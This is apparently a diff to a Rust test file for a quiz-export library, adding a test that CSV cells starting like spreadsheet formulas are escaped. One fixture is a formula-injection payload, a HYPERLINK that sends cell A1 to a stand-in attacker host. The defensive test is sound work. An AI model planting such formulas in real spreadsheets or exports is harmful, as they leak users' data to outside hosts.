@@ -7,7 +7,8 @@
 //! control characters in QTI; `\r` in GIFT; Aiken leaving kinds out without saying so; items
 //! with an empty or out-of-range key or no options (editable through the API) panicking every
 //! exporter; QTI feedback bound to an outcome that never takes its identifier; a text entry as
-//! wide as its answer; cloze answers accepted only with their quotes.
+//! wide as its answer; cloze answers accepted only with their quotes; CSV cells that start
+//! like a spreadsheet formula (a second security review).
 
 use std::io::Read;
 
@@ -515,4 +516,30 @@ fn cloze_accepts_listed_variants() {
         xml.contains("<mapResponse identifier=\"RESPONSE\"/>"),
         "{xml}"
     );
+}
+
+#[test]
+fn csv_cells_never_start_like_a_formula() {
+    let mut q = quiz();
+    q.items[0].stem = "=HYPERLINK(\"https://evil.example/?d=\"&A1,\"Source\")".into();
+    q.items[0].explanation = "@SUM(1+1)".into();
+    q.items[1].stem = "+1+2".into();
+    q.items[1].options = vec!["-3".into(), "\u{ff1d}1+1".into()];
+    let csv_bytes = export(&q, Format::Csv).unwrap();
+    let mut r = csv::Reader::from_reader(&csv_bytes[..]);
+    let rows: Vec<csv::StringRecord> = r.records().map(|x| x.unwrap()).collect();
+    for row in &rows {
+        for c in row.iter() {
+            assert!(
+                !c.starts_with(['=', '+', '-', '@', '\u{ff1d}']),
+                "a cell starts like a formula: {c:?}"
+            );
+        }
+    }
+    assert_eq!(
+        &rows[0][2],
+        "'=HYPERLINK(\"https://evil.example/?d=\"&A1,\"Source\")"
+    );
+    assert_eq!(&rows[0][6], "'@SUM(1+1)");
+    assert_eq!(&rows[1][3], "'-3 | \u{ff1d}1+1");
 }
